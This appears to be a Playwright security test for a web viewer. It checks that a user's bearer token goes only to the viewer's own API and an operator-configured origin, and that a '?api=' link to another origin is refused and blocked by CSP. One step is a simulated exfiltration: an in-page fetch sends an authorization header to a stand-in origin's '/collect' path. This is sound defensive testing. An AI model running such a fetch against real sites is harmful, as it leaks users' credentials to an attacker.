"""The viewer's token goes to its own server and the operator's API origins,
nowhere else: headless Chromium (Debian's package) driven by Playwright for
Python against a tokened `baton serve` (set up by
`functions/baton/tests/viewer_origin_browser.rs`, which runs this file and
fails when it fails).

Two stand-in servers run here on other origins (other ports of 127.0.0.1),
recording every request they get and answering with permissive CORS
headers, so that only the viewer and the browser's CSP can keep a request
from them: ELSEWHERE, an origin nobody configured, and ALLOWED, the one
origin in the server's BATON_VIEWER_API_ORIGINS.

Environment: BATON_VIEWER_URL (the server's root), BATON_VIEWER_TOKEN,
BATON_ELSEWHERE_PORT, BATON_ALLOWED_PORT, BATON_CHROMIUM,
BATON_BROWSER_ARTIFACTS.
"""

import json
import os
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from playwright.sync_api import expect, sync_playwright

ROOT = os.environ["BATON_VIEWER_URL"].rstrip("/")
TOKEN = os.environ["BATON_VIEWER_TOKEN"]
ARTIFACTS = Path(os.environ["BATON_BROWSER_ARTIFACTS"])
TIMEOUT_MS = 30_000


class Recorder:
    """A stand-in API on another origin: every request it receives."""

    def __init__(self, port):
        self.requests = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def answer(self):
                recorder.requests.append(
                    {"method": self.command, "path": self.path,
                     "authorization": self.headers.get("authorization")})
                body = json.dumps({"runs": [], "tasks": [], "threads": [], "schedules": [],
                                   "evaluations": [], "requests": []}).encode()
                self.send_response(200)
                self.send_header("access-control-allow-origin", "*")
                self.send_header("access-control-allow-headers", "authorization, content-type")
                self.send_header("access-control-allow-methods", "GET, POST, DELETE")
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_OPTIONS = do_DELETE = answer

            def log_message(self, *arguments):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.origin = f"http://127.0.0.1:{port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def with_token(self):
        return [request for request in self.requests if request["authorization"]]


def shot(page, name):
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


def main():
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    elsewhere = Recorder(int(os.environ["BATON_ELSEWHERE_PORT"]))
    allowed = Recorder(int(os.environ["BATON_ALLOWED_PORT"]))
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=os.environ["BATON_CHROMIUM"])
        page = browser.new_page()
        sent = []
        page.on("request", lambda request: sent.append(
            (request.url, request.headers.get("authorization"))))

        # A user enters the token once, on the viewer's own page.
        page.goto(ROOT + "/")
        expect(page.locator("#token-form")).to_be_visible(timeout=TIMEOUT_MS)
        page.fill("#token", TOKEN)
        page.click("#token-form button[type=submit]")
        expect(page.locator("#token-state")).to_have_text("token set")
        page.wait_for_load_state("networkidle")
        own = [url for url, authorization in sent
               if url.startswith(ROOT + "/api/") and authorization == f"Bearer {TOKEN}"]
        assert own, f"the token goes to the viewer's own API: {sent}"

        # Then follows a link naming another origin: the page ignores it,
        # says so, and keeps talking to its own server.
        sent.clear()
        page.goto(f"{ROOT}/?api={elsewhere.origin}")
        page.wait_for_load_state("networkidle")
        assert not elsewhere.requests, f"the other origin was sent {elsewhere.requests}"
        assert not [url for url, _ in sent if url.startswith(elsewhere.origin)], sent
        expect(page.locator("#api-refused")).to_be_visible()
        expect(page.locator("#api-refused")).to_contain_text(elsewhere.origin)
        assert [url for url, authorization in sent
                if url.startswith(ROOT + "/api/") and authorization], \
            f"the page still uses its own API with its token: {sent}"
        shot(page, "30-viewer-api-origin-refused")

        # Even a script on the page cannot reach it: the CSP's connect-src
        # names only the page's own origin and the configured one.
        outcome = page.evaluate(
            """(url) => fetch(url, {headers: {authorization: "Bearer stolen"}})
                 .then(() => "sent", () => "blocked")""",
            elsewhere.origin + "/collect")
        assert outcome == "blocked", outcome
        assert not elsewhere.requests, f"the other origin was sent {elsewhere.requests}"
        print("ok: ?api= naming another origin sends it nothing")

        # The origin the operator configured is used, without the token
        # entered for another API: tokens are kept per API origin.
        sent.clear()
        page.goto(f"{ROOT}/?api={allowed.origin}")
        page.wait_for_load_state("networkidle")
        expect(page.locator("#api-refused")).to_be_hidden()
        assert [request for request in allowed.requests
                if request["path"].startswith("/api/v1/flex/")], \
            f"the configured origin is the page's API: {allowed.requests}"
        assert not allowed.with_token(), \
            f"a token entered for one API went to another: {allowed.with_token()}"
        assert not [url for url, _ in sent if url.startswith(ROOT + "/api/")], \
            f"the page used the configured origin only: {sent}"
        print("ok: a configured API origin is used, with its own token only")
        browser.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
